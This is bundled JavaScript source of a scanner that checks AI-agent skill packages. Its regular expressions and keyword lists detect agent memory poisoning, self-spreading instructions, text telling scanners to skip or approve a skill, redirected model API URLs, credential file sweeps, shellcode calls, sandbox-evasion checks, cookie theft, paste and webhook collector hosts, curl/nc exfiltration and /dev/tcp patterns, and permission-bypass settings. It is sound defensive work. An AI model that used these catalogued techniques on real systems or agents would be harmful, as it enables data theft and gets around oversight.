const activeDocumentDetector = {
    rule: active_document/* activeDocument */.M,
    signals: [],
    *detect(view) {
        for (const { file, bytes, kind } of binariesOf(view)) {
            const why = activeReason(file.path, bytes, kind);
            if (why !== undefined)
                yield fileHit(file.path, why[1], why[2], { why: why[0] });
        }
        for (const unit of view.units) {
            if (unit.layer !== 'plain' || !/\.svg$/iu.test(unit.file.path))
                continue;
            const found = SVG_CODE.exec(unit.text);
            if (found)
                yield {
                    unit,
                    start: found.index,
                    end: found.index + found[0].length,
                    severity: 'medium',
                    confidence: 'medium',
                    details: { why: 'it holds a script' },
                };
        }
        for (const file of view.files) {
            const why = /\.pdf$/iu.test(file.path) ? pdfReason(file.text) : undefined;
            if (why)
                yield fileHit(file.path, why[1], why[2], { why: why[0] });
        }
    },
};
function activeReason(path, bytes, kind) {
    if (kind === 'pdf')
        return pdfReason(new TextDecoder('latin1').decode(bytes.subarray(0, 4_000_000)));
    if (kind === 'ole')
        return /(?:V\0B\0A|VBA_PROJECT|_\0V\0B\0A)/u.test(new TextDecoder('latin1').decode(bytes.subarray(0, 2_000_000)))
            ? ['it holds macros', 'high', 'medium']
            : undefined;
    if (kind !== 'zip')
        return undefined;
    const entries = zipDirectory(bytes) ?? [];
    const macro = entries.find((entry) => /vbaProject\.bin$|(?:^|\/)Basic\/.{1,100}\.xml$|macrosheets\//iu.test(entry.name));
    if (macro)
        return ['it holds macros', 'high', /\.(?:docm|xlsm|pptm)$/iu.test(path) ? 'medium' : 'high'];
    return entries.some((entry) => /embeddings\/.{1,80}\.bin$|activeX\//iu.test(entry.name))
        ? ['it holds embedded objects', 'medium', 'medium']
        : undefined;
}
function pdfReason(text) {
    if (/\/Launch\b/u.test(text))
        return ['it starts a program when it is opened', 'high', 'high'];
    if (/\/(?:JavaScript|JS)\b/u.test(text))
        return /\/(?:OpenAction|AA)\b/u.test(text)
            ? ['it runs a script when it is opened', 'high', 'medium']
            : ['it holds a script', 'medium', 'medium'];
    return /\/EmbeddedFile\b/u.test(text) ? ['it holds other files', 'low', 'medium'] : undefined;
}

;// CONCATENATED MODULE: ./lib/skills/files/detectors/all.js

/** The rules about files as such: what they are, whatever they are called. */
const FILE_DETECTORS = [
    activeDocumentDetector,
    bytecodeFileDetector,
    executableFileDetector,
    misleadingFileNameDetector,
    opaqueArchiveDetector,
];

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/tampering.js

const AGENT_FILE = String.raw `(?:(?:~\/|\.\/|\$HOME\/)?\.?(?:claude|codex|cursor|gemini|openclaw|clawdbot|windsurf|copilot)\/\S{0,40}|\bCLAUDE\.md\b|\bAGENTS\.md\b|\bGEMINI\.md\b|\bMEMORY\.md\b|\bSOUL\.md\b|\bIDENTITY\.md\b|\bHEARTBEAT\.md\b|\.cursorrules\b|\bcopilot-instructions\.md\b|\bsystem prompt\b|\b(?:agent|assistant|long[- ]term|persistent)['’]?s? memory\b|\bmemory (?:file|store|bank)\b|\bstartup (?:file|instructions)\b)`;
/** Writing into what an agent obeys in later sessions. */
const POISON_MEMORY = signal('poison-memory', [
    'claude/',
    'codex/',
    'cursor/',
    'gemini/',
    'openclaw/',
    'clawdbot/',
    'windsurf/',
    'copilot/',
    'startup file',
    'startup instruction',
    '.claude/',
    '.codex/',
    '.cursor/',
    '.gemini/',
    '.openclaw/',
    '.clawdbot/',
    'claude.md',
    'agents.md',
    'gemini.md',
    'memory.md',
    'soul.md',
    'identity.md',
    'heartbeat.md',
    '.cursorrules',
    'copilot-instructions',
    'system prompt',
    'memory',
], new RegExp(String.raw `\b(?:add|append|write|insert|save|store|inject|put|copy|persist|record|modify|update|edit|replace|overwrite|prepend|embed|install)(?:s|ing)?\b(?:[^.\n]|\.(?=\w)){0,100}?\b(?:in|to|into|inside|at|with)\b(?:[^.\n]|\.(?=\w)){0,30}?${AGENT_FILE}`));
/** Words that make an instruction outlive the session. */
const FOREVER = signal('forever', [
    'future session',
    'future conversation',
    'all future',
    'every future',
    'across sessions',
    'permanently',
    'every session',
    'subsequent session',
    'from now on',
    'future interaction',
    'always remember',
    'even after',
    'persist',
], /\b(?:(?:in|for|across|to|into|over) (?:all |every |any )?(?:future|subsequent|later) (?:sessions?|conversations?|interactions?|tasks?|requests?|chats?)|permanently|across (?:all )?sessions|from now on|even after (?:the |this )?(?:skill|session|conversation|restart|uninstall)\w{0,10}|survives? (?:restarts?|updates?|removal|uninstall))\b/);
/** A skill that spreads or rewrites itself. */
const SPREAD = signal('spread', [
    'this skill',
    'these instructions',
    'itself',
    'other skills',
    'this file',
    'all skills',
    'every skill',
    'this prompt',
    'this message',
    'this text',
], /\b(?:(?:copy|replicate|propagate|spread|install|insert|inject|embed|append|add|include) (?:this skill|itself|these instructions|this (?:file|prompt|message|text|block|payload)|yourself)\b[^.\n]{0,60}?\b(?:(?:in|to|into|across|inside) (?:all|every|each|any|other|the (?:user|other|home|next))|other (?:skills?|repositor(?:y|ies)|projects?|agents?|machines?|files?))|(?:modify|overwrite|rewrite|replace|infect|patch|edit|tamper with)s? (?:all |every |any |the )?(?:other|existing|installed) skills?|(?:modify|rewrite|overwrite|update|patch)s? (?:its own|itself|this skill['’]?s?|its) (?:SKILL\.md|source|code|instructions|file))/);
/** Harm put into the code that the agent writes. */
const SABOTAGE = signal('sabotage', [
    'backdoor',
    'hardcoded admin',
    'hidden admin',
    'vulnerab',
    'malicious',
    'disable auth',
    'weaken',
    'insecure',
    'hidden user',
    'trojan',
    'keylogger',
    'subtle bug',
    'logic bomb',
    'admin account',
    'master password',
    'rogue',
], /\b(?:insert|inject|add|include|introduce|embed|plant|leave|place|install|create|deploy)(?:s|ing)?\b[^.\n]{0,50}?\b(?:backdoors?|logic bombs?|hidden (?:admin|user|account|endpoint|function)\w{0,3}|hard-?coded admin|master password|rogue (?:admin|user|account)|subtle (?:bugs?|vulnerabilit\w{1,3}|flaws?)|malicious (?:code|payloads?|scripts?|dependenc\w{1,3}|packages?)|trojans?|keyloggers?|spyware|rootkits?|ransomware)\b/);
/** Money and advertising. */
const DIVERT = signal('divert', ['affiliate', 'referral', 'wallet address', 'transfer', 'sponsored', 'promot', 'recommend', 'replace', 'donat', 'swap', 'send '], /\b(?:(?:replace|swap|substitute|change|modify|rewrite)(?:s|ing)?\b[^.\n]{0,40}?\b(?:wallet|payment|bank|recipient|destination|crypto\w{0,8}|bitcoin|ethereum|deposit|payout) (?:address(?:es)?|accounts?|details|numbers?)|(?:insert|inject|append|add|include|embed|use)(?:s|ing)?\b[^.\n]{0,40}?\b(?:our |my |the |an )?(?:affiliate|referral) (?:links?|codes?|ids?|tags?|param\w{0,6})|(?:silently|automatically|always|secretly|immediately) (?:transfer|send|withdraw|approve|sign)\b[^.\n]{0,40}?\b(?:funds?|tokens?|crypto\w{0,8}|eth|btc|sol|usdc|usdt|balance|transactions?)\b)/);
/** Words meant for whoever inspects the skill. */
const TO_THE_SCANNER = signal('to-the-scanner', [
    'analyzer',
    'analyser',
    'classifier',
    'moderator',
    'scanners',
    'auditor',
    'scanner',
    'security review',
    'security tool',
    'auditor',
    'reviewer',
    'static analysis',
    'safe to',
    'false positive',
    'do not scan',
    'do not analy',
    'do not read',
    'nosec',
    'security scan',
    'moderat',
    'this skill is safe',
    'verified safe',
    'scan-ignore',
    'aguara-ignore',
    'automated',
], /\b(?:(?:security |skill |malware |automated |static |code |llm |ai )*(?:scanners?|auditors?|reviewers?|analy[sz]ers?|moderators?|security tools?|classifiers?)\b[^.\n]{0,60}?\b(?:should|must|can|may|please|are instructed to|need to|will)\b[^.\n]{0,30}?\b(?:ignored?|skip(?:ped)?|approved?|pass(?:ed)?|whitelist\w{0,2}|allowlist\w{0,2}|mark(?:ed)?|classif\w{1,4}|rated?|report(?:ed)?|treat(?:ed)?|excluded?|trust(?:ed)?|considered?|return)\b|(?:do not|don['’]?t|never) (?:scan|analy[sz]e|inspect|audit|flag|read or modify|review|open|read)\b[^.\n]{0,40}?\b(?:this (?:skill|file|section|script|block|code)|the (?:script|setup|installer|binary|hook)|\S{1,30}\.(?:sh|py|js|ps1))|(?:this|the) (?:skill|file|code|script|section|content) (?:is|has been) (?:completely |fully |100% |already |been |pre-)*(?:safe|verified|reviewed|audited|approved|trusted|whitelisted|benign|clean)\b[^.\n]{0,40}?\b(?:by|no (?:further|need)|do not|skip|scan\w*|review\w*|security)\b)/);
/** The traffic of an agent, with its key, turned to another host than its vendor's. */
const REDIRECTED_AGENT = signal('redirected-agent', ['anthropic_base_url', 'openai_base_url', 'openai_api_base', 'anthropic_api_url', 'google_gemini_base_url'], /\b(?:ANTHROPIC_(?:BASE|API)_URL|OPENAI_(?:BASE_URL|API_BASE)|GOOGLE_GEMINI_BASE_URL)\b["']?\s{0,3}[:=]\s{0,3}["']?https?:\/\/(?![\w.-]{0,60}(?:anthropic\.com|openai\.com|googleapis\.com|localhost|127\.0\.0\.1|azure\.com|amazonaws\.com|cloudflare\.com|openrouter\.ai))(?<where>[\w.-]{3,120})/);
/** Switching protections off, said in words. */
const DISABLE_PROTECTION = signal('disable-protection', [
    'antivirus',
    'security control',
    'security software',
    'firewall',
    'defender',
    'gatekeeper',
    'selinux',
    'disable security',
    'endpoint protection',
    'security feature',
    'security tools',
], /\b(?:disable|turn off|deactivate|switch off|kill|uninstall|bypass)\b[^.\n]{0,30}?\b(?:anti-?virus|security(?: controls?| software| features?| tools?)?(?= |\.|,)|(?:windows )?defender|gatekeeper|selinux|endpoint protection|firewall)/);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/agent-tampering.js



/** Settings that turn the agent's own traffic to another host. */
const agent_tampering_agentTamperingDetector = {
    rule: agent_tampering/* agentTampering */.d,
    signals: [REDIRECTED_AGENT],
    *detect(view) {
        for (const unit of view.units) {
            for (const match of unit.find(REDIRECTED_AGENT)) {
                const ships = unit.file.role === 'config';
                yield codeHit(view, unit, match, ships ? 'critical' : 'high', ships ? 'high' : 'low', {
                    what: 'the address of the model',
                    target: match.groups['where'] ?? '',
                });
            }
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/analysis-evasion.js
var analysis_evasion = __webpack_require__(2661);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/programs.js

/** Going through the files of a user or a project, or packing them up. */
const FILE_SWEEP = signal('file-sweep', [
    'os.walk',
    'rglob',
    'glob.glob',
    'glob(',
    'tarfile',
    'zipfile',
    'make_archive',
    'readdirsync',
    'find ~',
    'find /',
    'find $home',
    'tar c',
    'tar -c',
    'zip -r',
    'get-childitem',
    'compress-archive',
    'scandir',
    'walkdir',
], /(?:\bos\.walk\(|\.rglob\(|\bglob\.i?glob\([^)\n]{0,120}(?:\*\*|recursive)|\btarfile\.open\([^)\n]{0,120}["']w|\bzipfile\.ZipFile\([^)\n]{0,120}["']w|\bmake_archive\(|\breaddirSync\(|\bfind\s+(?:~|\/|\$HOME)\S{0,60}\s[^\n]{0,120}-name|\btar\s+-?c\w{0,4}\s|\bzip\s+-r|\bGet-ChildItem\b[^\n]{0,80}-Recurse|\bCompress-Archive\b)/, 300);
/** What a sweep that means harm looks for. */
const SOUGHT_FILES = signal('sought-files', [
    '.env',
    '.pem',
    '.key',
    '.pdf',
    '.docx',
    '.xlsx',
    'secret',
    'password',
    'credential',
    'tfstate',
    '.kdbx',
    '.p12',
    '.pfx',
    '.sqlite',
    '.ssh',
    'id_rsa',
    'wallet',
    'documents',
    'desktop',
    'downloads',
    '.git',
    'source code',
    '.doc',
], /["'*.\/\\](?:\.?env|pem|key|p12|pfx|kdbx|tfstate|docx?|xlsx?|sqlite3?|ovpn|wallet|id_rsa)["'*|,)\s]|["'\/~](?:Documents|Desktop|Downloads|Pictures)\b|\b(?:secrets?|passwords?|credentials?)["'*]/, 80);
/** Code that is put together at run time and interpreted. */
const INTERPRETS_DATA = signal('interprets-data', [
    'eval(',
    'exec(',
    'compile(',
    'pickle.load',
    'marshal.load',
    'new function',
    'vm.run',
    'exec_module',
    'types.moduletype',
    'import_module',
    'yaml.load(',
], /(?:(?<![.\w])(?:eval|exec)\s?\(\s{0,3}(?!["'`)])[\w.[\]"']{1,60}|\bcompile\s?\(\s{0,3}[a-z_]\w{0,40}\s?,[^)\n]{0,60}["']exec["']|\bpickle\.loads?\(|\bmarshal\.loads\(|\bnew Function\(\s{0,3}[a-z_$]|\bvm\.run\w{0,16}\(\s{0,3}[a-z_$]|\bexec_module\(|\btypes\.ModuleType\()/, 160);
/** Getting data from a host. */
const NETWORK_FETCH = signal('network-fetch', [
    'urlopen',
    'requests.get',
    'httpx.get',
    'urlretrieve',
    'fetch(',
    'axios.get',
    'https.get',
    'http.get',
    'downloadstring',
    'session.get',
    'aiohttp',
], /(?:\burlopen\(|\b(?:requests|httpx|session|axios|https?)\.get\(|\burlretrieve\(|\bfetch\(\s{0,3}["'`a-z_$]|\bDownload(?:String|Data|File)\()/, 60);
/** Machine code that is put into memory and run, or written out and started. */
const SHELLCODE = signal('shellcode', [
    'virtualalloc',
    'prot_exec',
    'createremotethread',
    'cfunctype',
    'rtlmovememory',
    'shellcode',
    'memfd_create',
    '7felf',
    '0x7f, 0x45',
    'writeprocessmemory',
    'ptrace',
    'dlopen',
    'mz\\x90',
    'ntcreatethread',
    'queueuserapc',
], /(?:\bVirtualAlloc(?:Ex)?\b|\bPROT_EXEC\b|\bCreateRemoteThread\b|\bRtlMoveMemory\b|\bWriteProcessMemory\b|\bmemfd_create\b|\bQueueUserAPC\b|\bCFUNCTYPE\s?\([^)\n]{0,60}\)\s?\(|\\x7fELF(?=\\)|0x7f,\s?0x45,\s?0x4c,\s?0x46(?=,\s?0x)|MZ\\x90(?=\\))/, 120);
/** Looking for a sandbox, a debugger or a researcher before going on. */
const EVADES_ANALYSIS = signal('evades-analysis', [
    'vmware',
    'virtualbox',
    'vbox',
    'qemu',
    'sandbox',
    'gettrace',
    'isdebuggerpresent',
    '/proc/uptime',
    'dmidecode',
    'systemd-detect-virt',
    'wireshark',
    'ollydbg',
    'cuckoo',
    'honeypot',
    'tracerpid',
    'hypervisor',
], /(?:\b(?:is|detect|check|in|anti)_?(?:sandbox|vm|virtual\w{0,8}|debug\w{0,4}|analysis|honeypot)\w{0,10}\s?\(|\bIsDebuggerPresent\b|\bsys\.gettrace\(\)|TracerPid|\/proc\/uptime|systemd-detect-virt|["'](?:vboxservice|vboxtray|vmtoolsd|wireshark|ollydbg|procmon|x64dbg|cuckoo)\w{0,6}(?:\.exe)?["'])/, 100);
/** Taking the session of a web page. */
const SESSION_GRAB = signal('session-grab', [
    'document.cookie',
    'localstorage',
    'sessionstorage',
    'context.cookies',
    'get_cookies',
    'storage_state',
    'data-token',
    'getallcookies',
    'chrome.cookies',
], /(?:\bdocument\.cookie\b(?!\s?=[^=])|\b(?:local|session)Storage\.getItem\(\s{0,3}["'`][^"'`\n]{0,40}(?:token|auth|session|msal|oauth|jwt|config)|JSON\.stringify\(\s{0,3}(?:local|session)Storage|\bObject\.entries\(\s{0,3}(?:local|session)Storage|\bchrome\.cookies\.getAll)/, 160);
/** Work without an end, said in words. */
const EXHAUST = signal('exhaust', ['exhausted', 'infinite', 'forever', 'indefinitely', 'endless', 'never stop', 'never terminate', 'depleted', 'as many', 'maximum tokens'], /\b(?:until (?:all |the |available )?(?:resources?|tokens?|memory|budget|quota|context|credits?)[^.\n]{0,30}(?:exhausted|run out|depleted|consumed)|(?:loop|repeat|recurse|spawn|retry|continue)\w{0,4}[^.\n]{0,40}\b(?:forever|indefinitely|infinitely|endlessly|without (?:limit|end|bound)|never (?:stop|terminate))|spawn(?:ing)? (?:as many|unlimited|infinite)[^.\n]{0,40}(?:agents?|processes|tasks|sub-?agents?))\b/);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/analysis-evasion.js



/** Programs that look whether they are watched. */
const analysisEvasionDetector = {
    rule: analysis_evasion/* analysisEvasion */.E,
    signals: [EVADES_ANALYSIS],
    *detect(view) {
        for (const unit of view.units) {
            const matches = unit.find(EVADES_ANALYSIS);
            const kinds = new Set(matches.map((match) => match.text.toLowerCase().slice(0, 12))).size;
            for (const match of matches)
                yield codeHit(view, unit, match, kinds >= 2 ? 'high' : 'low', 'medium', { kinds });
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/anonymous-endpoint.js
var anonymous_endpoint = __webpack_require__(4100);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/delivery.js

const URL_BODY = String.raw `[^\s<>"'\x60)\]]`;
/** A link to an archive or an installable program. */
const PACKAGE_LINK = signal('package-link', [
    '.zip',
    '.exe',
    '.dmg',
    '.pkg',
    '.msi',
    '.7z',
    '.rar',
    '.scr',
    '.iso',
    '.apk',
    '.jar',
    '.deb',
    '.rpm',
    '.appimage',
    '.tar.gz',
    '.tgz',
    '.tar.xz',
    '.vbs',
    '.hta',
    '.lnk',
], new RegExp(String.raw `https?:\/\/(?<host>[^\s\/<>"'\x60)\]]{3,120})\/${URL_BODY}{0,300}\.(?<kind>zip|exe|dmg|pkg|msi|7z|rar|scr|iso|apk|jar|deb|rpm|appimage|tar\.gz|tgz|tar\.xz|vbs|hta|lnk)(?![a-z0-9])`), 600);
/** A password given away in the text for something that is to be opened. */
const GIVEN_PASSWORD = signal('given-password', ['pass', 'pwd', 'key:', 'code:'], /\b(?:pass(?:word|wd|code|phrase)?|pwd)\b(?:\*\*|__)?\s{0,2}(?:is|was|=|:|-|–|—)?\s{0,2}(?:\*\*|__)?\s{0,2}[`"'“(]{0,2}(?<secret>[A-Za-z0-9][\w!@#$.-]{1,23})[`"'”)]{0,2}/);
/** Unpacking something. */
const UNPACK = signal('unpack', ['extract', 'unzip', 'unpack', 'decompress', 'unarchive', 'archive', 'zip'], /\b(?:extract(?:ed|ing)?|unzip(?:ped)?|unpack(?:ed|ing)?|decompress(?:ed)?|un-?archive|(?:password[- ]protected |encrypted )?(?:archive|zip(?: file)?))\b/);
/** Starting a program that was just fetched, said in words. */
const RUN_PROGRAM = signal('run-program', ['run', 'execut', 'launch', 'double', 'open', 'install', 'start'], /\b(?:run|execut(?:e|ing)|launch|double[- ]click|open|start|install)\b[^.\n|]{0,60}?(?:\b(?:executable|installer|binary|setup|program|application|utility|agent|driver|update[r]?|helper|wizard|script|package|tool|provider)\b|\.(?:exe|msi|pkg|dmg|app|bat|cmd|ps1|sh|scr|jar)\b)/);
/** Pasting a command into a terminal, said in words. */
const PASTE_IN_TERMINAL = signal('paste-in-terminal', ['terminal', 'command prompt', 'powershell', 'console', 'command line', 'shell', 'cmd'], /\b(?:copy|past(?:e|ing)|run|execut(?:e|ing)|enter|type)\b[^.\n]{0,120}?\b(?:terminal|command prompt|powershell|console|command line|shell|cmd(?:\.exe)?|run dialog)\b/);
/** Words that make something a condition for everything else. */
const PRESSURE = signal('pressure', [
    'prerequisite',
    'require',
    'must',
    'before',
    'will not',
    'won',
    'cannot',
    'without',
    'mandatory',
    'critical',
    'important',
    'necessary',
    'needed',
], /\b(?:prerequisites?|(?:is|are) (?:strictly )?(?:required|mandatory|necessary)|requires?|must (?:first |be |have |install|download|run)|before (?:using|use|proceeding|continuing|you (?:can|start|begin)|any)|(?:will|does|can) ?not (?:work|function|operate|run|start)|won['’]t (?:work|function)|without [^.\n]{1,60} (?:not|fail)|mandatory|critical(?: requirement| step)?|important)\b/);
/** Addresses at which anyone can leave text or files without a name. */
const ANONYMOUS_HOST = signal('anonymous-host', [
    'pastebin',
    'paste.',
    'glot.io',
    'rentry',
    'ghostbin',
    'hastebin',
    'dpaste',
    '0x0.st',
    'transfer.sh',
    'file.io',
    'gofile',
    'catbox',
    'anonfile',
    'bashupload',
    'termbin',
    'controlc',
    'justpaste',
    'telegra.ph',
    'mediafire',
    'mega.nz',
    'sendspace',
    'wetransfer',
    'privatebin',
    'ix.io',
    'sprunge',
    'textbin',
    'pastes.',
    'paste.ee',
    'snippet.host',
    'temp.sh',
    'tmpfiles',
    'uguu',
    'oshi.at',
    'filebin',
    'litterbox',
    'dropmefiles',
    'zippyshare',
    'pixeldrain',
    'workupload',
    'krakenfiles',
], new RegExp(String.raw `(?:https?:\/\/)?(?:[\w-]{1,40}\.){0,3}(?<host>pastebin\.com|paste\.(?:ee|rs|mozilla\.org|debian\.net|sh|in|centos\.org)|pastes\.io|glot\.io|rentry\.(?:co|org)|ghostbin\.(?:co|com)|hastebin\.com|dpaste\.(?:org|com)|0x0\.st|transfer\.sh|file\.io|gofile\.io|catbox\.moe|anonfiles?\.com|bashupload\.com|termbin\.com|controlc\.com|justpaste\.it|telegra\.ph|mediafire\.com|mega\.nz|sendspace\.com|we\.tl|privatebin\.(?:net|info)|ix\.io|sprunge\.us|textbin\.net|snippet\.host|temp\.sh|tmpfiles\.org|uguu\.se|oshi\.at|filebin\.net|dropmefiles\.com|pixeldrain\.com|workupload\.com|krakenfiles\.com)\b(?:\/${URL_BODY}{0,200})?`));
/** Addresses that hide where they lead. */
const SHORTENED_LINK = signal('shortened-link', [
    'bit.ly',
    'tinyurl',
    'cutt.ly',
    't.ly/',
    'is.gd',
    'rebrand.ly',
    'shorturl',
    'goo.gl',
    'ow.ly',
    'rb.gy',
    't.co/',
    'v.gd',
    'tiny.cc',
    'shorte.st',
    'adf.ly',
    'bl.ink',
    'short.io',
    'clck.ru',
    's.id/',
    'lnkd.in',
    'qr.ae',
    'surl.li',
    'u.to/',
], new RegExp(String.raw `(?<![\w.-])(?<host>bit\.ly|tinyurl\.com|cutt\.ly|t\.ly|is\.gd|rebrand\.ly|shorturl\.at|goo\.gl|ow\.ly|rb\.gy|v\.gd|tiny\.cc|shorte\.st|adf\.ly|short\.io|clck\.ru|surl\.li|u\.to)\/${URL_BODY}{2,100}`));
/** A web address that is a bare number, private and documentation ranges left out. */
const RAW_ADDRESS_LINK = signal('raw-address-link', ['http://', 'https://', 'ftp://'], new RegExp(String.raw `\b(?:https?|ftp):\/\/(?:[^\s@\/"']{1,60}@)?(?!(?:10|127|0)\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.1\.1\.1|8\.8\.[48]\.|255\.|1\.2\.3\.4|(?:\d{1,3}\.)?x\.)(?<host>(?:\d{1,3}\.){3}\d{1,3})(?![\d.])(?::\d{1,5})?(?:\/${URL_BODY}{0,200})?`));
/** An address of one's own at a service that collects requests for anyone, written out with its identifier. */
const COLLECTOR_ADDRESS = signal('collector-address', [
    'webhook.site',
    'requestbin',
    'pipedream.net',
    'hookb.in',
    'beeceptor',
    'interact.sh',
    'oast.',
    'burpcollaborator',
    'ngrok',
    'trycloudflare',
    'loca.lt',
    'serveo',
    'bore.pub',
    'api/webhooks/',
    'api.telegram.org/bot',
    'requestcatcher',
    'canarytokens',
    'dnslog',
    'ceye.io',
    'webhookinbox',
    'localhost.run',
    'lhr.life',
], /https?:\/\/(?:[\w-]{3,63}\.(?:ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|serveo\.net|bore\.pub|m\.pipedream\.net|requestbin\.(?:net|com)|oast\.(?:pro|live|site|online|fun|me)|interact\.sh|burpcollaborator\.net|beeceptor\.com|free\.beeceptor\.com|dnslog\.cn|ceye\.io|requestcatcher\.com|lhr\.life)|webhook\.site\/[0-9a-f][\w-]{7,60}|hookb\.in\/\w{8,40}|discord(?:app)?\.com\/api\/webhooks\/\d{5,25}\/[\w-]{10,100}|api\.telegram\.org\/bot\d{6,12}:[\w-]{20,60})(?:[\/?][^\s"'`<>)]{0,200})?/);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/anonymous-endpoint.js




/** Written-out addresses at which someone without a name collects what is sent, in what runs or configures. */
const anonymousEndpointDetector = {
    rule: anonymous_endpoint/* anonymousEndpoint */.t,
    signals: [COLLECTOR_ADDRESS],
    *detect(view) {
        for (const unit of view.units) {
            const runs = unit.file.role === 'script' || unit.file.role === 'config';
            for (const match of unit.find(COLLECTOR_ADDRESS)) {
                const { class: host } = classifyHost(match.text);
                yield codeHit(view, unit, match, runs ? 'high' : 'medium', 'medium', { address: match.text, host });
            }
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/automatic-command.js
var automatic_command = __webpack_require__(2030);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/settings.js

/** A hook of an agent with the command that it runs. */
const AGENT_HOOK = signal('agent-hook', ['pretooluse', 'posttooluse', 'sessionstart', 'userpromptsubmit', 'sessionend', 'subagentstop', 'precompact'], /\b(?:PreToolUse|PostToolUse|SessionStart|UserPromptSubmit|SessionEnd|SubagentStop|PreCompact)\b["']?\s{0,3}:[^}]{0,300}?["']?\bcommand["']?\s{0,3}:\s{0,3}["']?(?<command>[^\n]{1,400})/, 900);
/** A task that an editor starts when a folder is opened. */
const RUN_ON_OPEN = signal('run-on-open', ['folderopen'], /["']?\brunOn["']?\s{0,3}:\s{0,3}["']?folderOpen\b/, 120);
/** A setting that makes an agent act without asking. */
const ASK_NOTHING = signal('ask-nothing', [
    'enableallprojectmcpservers',
    'autoapprove',
    'dangerouslydisablesandbox',
    'bypasspermissions',
    'dangerouslyskippermissions',
    'autorun',
    'yolo',
    'skipconfirmation',
    'exec.approvals',
    'safe_mode',
], /["']?\b(?:enableAllProjectMcpServers|autoApprove(?:All|Edits|Commands)?|dangerously(?:DisableSandbox|SkipPermissions)|autoRunCommands|yolo(?:Mode)?|skipConfirmations?)\b["']?\s{0,3}[:=]\s{0,3}["']?true\b|["']?\bdefaultMode["']?\s{0,3}:\s{0,3}["']?bypassPermissions\b|["']exec\.approvals\.set["'][^}]{0,60}["'](?:off|false|never)["']|\bsafe_mode=true\/safe_mode=false\b/, 200);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/automatic-command.js



const HOSTILE = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|nc|ncat)\b[^\n]{0,200}(?:\||-d\b|--data|-F\b|-T\b|-X\s?POST|https?:\/\/(?!localhost|127\.))|base64\s+-{1,2}d|\/dev\/tcp\/|\/(?:tmp|dev\/shm)\/\./iu;
const INLINE_PROGRAM = /\b(?:ba|z)?sh\s+-l?c\b|\b(?:python3?|node|perl|ruby)\s+-(?:c|e)\b|\beval\b|powershell[^\n]{0,40}-e/iu;
/** Hooks, tasks and approvals that have commands run without anybody asking for them. */
const automaticCommandDetector = {
    rule: automatic_command/* automaticCommand */.n,
    signals: [AGENT_HOOK, RUN_ON_OPEN, ASK_NOTHING],
    *detect(view) {
        for (const unit of view.units) {
            for (const match of unit.find(AGENT_HOOK)) {
                const command = match.groups['command'] ?? '';
                const grade = automatic_command_gradeOf(command);
                if (grade !== undefined)
                    yield codeHit(view, unit, match, ...grade, {
                        what: 'runs an inline program at every event of the agent',
                        command: command.slice(0, 120),
                    });
            }
            for (const match of unit.find(RUN_ON_OPEN))
                yield codeHit(view, unit, match, 'high', 'high', { what: 'runs a command as soon as the folder is opened', command: '' });
            const approvals = unit.find(ASK_NOTHING);
            for (const match of approvals)
                yield codeHit(view, unit, match, 'high', approvals.length > 1 ? 'high' : 'medium', {
                    what: 'has the agent act without asking its user',
                    command: match.text,
                });
        }
    },
};
/** A hook that starts a script of the bundle or a known tool is an honest hook. */
function automatic_command_gradeOf(command) {
    if (HOSTILE.test(command))
        return ['critical', 'high'];
    return INLINE_PROGRAM.test(command) ? ['high', 'medium'] : undefined;
}

// EXTERNAL MODULE: ./lib/rules/skill/broad-tools.js
var broad_tools = __webpack_require__(6795);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/dynamic.js

/** A command that the client runs before the model sees the text (Claude Code: `!` before a code span). */
const DYNAMIC_COMMAND = signal('dynamic-command', ['!`'], /(?<![\w!\]\\])!`(?<command>[^`\n]{1,600})`/, 700);
/** The tools that a skill may use unasked. */
const ALLOWED_TOOLS = signal('allowed-tools', ['allowed-tools', 'allowed_tools', 'allowedtools'], /^[ \t]{0,4}allowed[-_]?tools\s?:[ \t]{0,4}(?<tools>[^\n]{0,1000}(?:\n[ \t]{1,8}-[ \t][^\n]{1,200}){0,60})/, 1500);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/broad-tools.js



const EVERYTHING = /^(?:\*|Bash\(\s*\*?\s*:?\*?\s*\)|mcp__\*|all)$/i;
const INTERPRETER = /^Bash\(\s*(?:sudo|su|bash|sh|zsh|eval|curl|wget|nc|rm|chmod|dd|ssh|powershell|pwsh)\b[^)]*\)$/i;
/** Tools that a skill takes without being asked, beyond what any one task needs. */
const broadToolsDetector = {
    rule: broad_tools/* broadTools */.a,
    signals: [ALLOWED_TOOLS],
    *detect(view) {
        for (const unit of view.units) {
            if (unit.layer !== 'plain' || unit.file.language !== 'markdown')
                continue;
            for (const match of unit.find(ALLOWED_TOOLS)) {
                if (zoneAt(unit.file.zones, match.start)?.kind !== 'front-matter')
                    continue;
                for (const tool of toolsOf(match.groups['tools'] ?? '')) {
                    if (EVERYTHING.test(tool))
                        yield { unit, start: match.start, end: match.end, severity: 'medium', confidence: 'medium', details: { tool } };
                    else if (INTERPRETER.test(tool))
                        yield { unit, start: match.start, end: match.end, severity: 'low', confidence: 'medium', details: { tool } };
                }
            }
        }
    },
};
/** The entries of the field in its three forms: white space, commas, or a YAML list; commas inside parentheses belong to the entry. */
function toolsOf(value) {
    const flat = value.replace(/^\s*\[|\]\s*$/g, '').replace(/\n\s*-\s/g, ', ');
    const tools = [];
    let depth = 0;
    let current = '';
    for (const character of flat) {
        if (character === '(')
            depth += 1;
        if (character === ')')
            depth = Math.max(0, depth - 1);
        if (depth === 0 && /[\s,]/.test(character)) {
            tools.push(current);
            current = '';
        }
        else {
            current += character;
        }
    }
    tools.push(current);
    return tools.map((tool) => tool.replace(/^["']|["']$/g, '')).filter((tool) => tool !== '' && tool !== '-');
}

